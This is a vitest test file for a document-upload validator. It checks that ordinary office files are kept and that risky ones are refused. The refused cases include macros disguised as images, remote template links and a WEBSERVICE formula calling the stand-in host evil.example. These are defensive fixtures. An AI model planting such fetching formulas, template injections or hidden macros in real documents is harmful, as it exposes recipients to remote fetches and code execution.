/** @module-tag thorough */
import { existsSync, readFileSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, expect, test } from 'vitest'
import { read } from '@/db/connection'
import { media } from '@/db/schema'
import { testDatabase } from '@/db/test-database'
import { someone } from '@/domain/testing/newsroom'
import { openDocument, wordDocument, workbook, type ZipEntry } from '@/domain/testing/office'
import { mediaRoot } from '@/lib/store/media'
import { storeUpload } from '../intake'

beforeEach(() => {
  testDatabase()
})

async function upload(source: Buffer, name: string) {
  return storeUpload(await someone(), { source, name }, 5)
}

const relations = (type: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x" TargetMode="${mode}"/></Relationships>`

const spreadsheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml'

/** A Word document with parts of these types. */
function wordWith(parts: [name: string, content: string | Buffer, type: string][], more: ZipEntry[] = []) {
  const main: [string, string, string] = [
    'word/document.xml',
    '<w:document><w:body/></w:document>',
    `${word}.document.main+xml`,
  ]
  const all = [main, ...parts]
  const types = all.map(([name, , type]) => `<Override PartName="/${name}" ContentType="${type}"/>`).join('')
  const entries = all.map(([name, content]): ZipEntry => [name, content])
  return wordDocument([['[Content_Types].xml', `<Types>${types}</Types>`], ...entries, ...more])
}

const worksheet = (inner: string) =>
  workbook([{ part: ['xl/worksheets/sheet1.xml', `<worksheet>${inner}</worksheet>`], type: 'worksheet' }])
const inside = (type: string) => relations(type, 'Internal')
const withTemplate = wordDocument([['word/_rels/settings.xml.rels', relations('attachedTemplate')]])

test('ordinary documents are kept: charts with their workbooks, signatures of programs, and what LibreOffice writes', async () => {
  const folder = join(import.meta.dirname, '../../testing/libreoffice')
  const files = readdirSync(folder).filter((name) => name.endsWith('.docx'))
  expect(files.length).toBeGreaterThan(5)
  for (const name of files)
    expect([name, await upload(readFileSync(join(folder, name)), name)]).toMatchObject([name, { ok: true }])
  const chart = wordWith(
    [
      [
        'word/charts/chart1.xml',
        '<c:chartSpace/>',
        'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
      ],
      ['word/embeddings/data.xlsx', worksheet('<row><c><f>SUM(A1:A3)</f></c></row>'), `${spreadsheet}.sheet`],
      ['word/media/image1.png', 'x', 'image/png'],
    ],
    [
      ['word/charts/_rels/chart1.xml.rels', inside('package')],
      ['word/_rels/document.xml.rels', inside('chart')],
    ],
  )
  expect(await upload(chart, 'chart.docx')).toMatchObject({ ok: true })
  const words = worksheet('<row><c><f>CONCAT("IMAGE(", MYIMAGE(1), "a")</f></c></row>')
  expect(await upload(words, 'words.xlsx')).toMatchObject({ ok: true })
  const open = openDocument(
    [
      'Configurations2/',
      'Configurations2/accelerator/current.xml',
      'Thumbnails/thumbnail.png',
      'Pictures/1.png',
      'manifest.rdf',
    ]
      .concat([
        'Object 1/content.xml',
        'ObjectReplacements/Object 1',
        'Basic/script-lc.xml',
        'settings.xml',
        'layout-cache',
      ])
      .map((name) => [name, /^(Obj|set).*xml$/.test(name) ? '<office:scripts/>' : '']),
  )
  expect(await upload(open, 'open.odt')).toMatchObject({ ok: true })
})

test.each([
  [
    'a part that is read as HTML',
    'a.docx',
    () => wordDocument([['word/_rels/document.xml.rels', inside('aFChunk')]]),
    'ordinary',
  ],
  [
    'a part of a type that nothing ordinary has',
    'a.docx',
    () => wordWith([['word/a.html', 'x', 'text/html']]),
    'ordinary',
  ],
  [
    'macros under the name of a picture',
    'a.docx',
    () =>
      wordDocument([
        [
          'word/_rels/document.xml.rels',
          '<Relationships><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/image1.png"/></Relationships>',
        ],
      ]),
    'ordinary',
  ],
  [
    'a relation of a vocabulary that is not known',
    'a.docx',
    () =>
      wordDocument([
        [
          'word/_rels/document.xml.rels',
          '<Relationships><Relationship Type="http://x.example/relationships/image" Target="a"/></Relationships>',
        ],
      ]),
    'ordinary',
  ],
  [
    'a sheet of macros',
    'a.xlsx',
    () => workbook([{ part: ['xl/macrosheets/sheet1.xml', '<xm:macrosheet/>'], type: 'macrosheet' }]),
    'ordinary',
  ],
  [
    'a document in it that has a template elsewhere',
    'a.docx',
    () => wordWith([['word/embeddings/a.docx', withTemplate, `${word}.document`]]),
    'from another place',
  ],
  [
    'a document in a document in it that has a template elsewhere',
    'a.docx',
    () =>
      wordWith([
        [
          'word/embeddings/a.docx',
          wordWith([['word/embeddings/b.docx', withTemplate, `${word}.document`]]),
          `${word}.document`,
        ],
      ]),
    'from another place',
  ],
  [
    'a formula that fetches',
    'a.xlsx',
    () => worksheet('<c><f>_xlfn.WEBSERVICE("http://evil.example/")</f></c>'),
    'from another place',
  ],
  [
    'a formula of a picture elsewhere',
    'a.xlsx',
    () => worksheet('<c><f>1+_xlfn.IMAGE(A1)</f></c>'),
    'from another place',
  ],
  [
    'a condition that fetches',
    'a.xlsx',
    () => worksheet('<cfRule><formula>WebService (A1)</formula></cfRule>'),
    'from another place',
  ],
  [
    'a script in the text of an OpenDocument',
    'a.odt',
    () =>
      openDocument([['content.xml', '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>']]),
    'macros',
  ],
  ['a file that no OpenDocument has', 'a.odt', () => openDocument([['Versions/Version1', 'x']]), 'ordinary'],
  [
    'a key that runs a macro in an OpenDocument',
    'a.odt',
    () =>
      openDocument([['Configurations2/accelerator/current.xml', '<accel:item xlink:href="vnd.sun.star.script:a"/>']]),
    'macros',
  ],
])('%s is refused in a sentence and nothing is kept', async (_what, name, make, sentence) => {
  const result = await upload(make(), name)
  expect(result.ok ? '' : result.problems[0]!.message).toContain(sentence)
  expect(await read().$count(media)).toBe(0)
  expect(existsSync(mediaRoot()) ? readdirSync(mediaRoot()) : []).toEqual([])
})
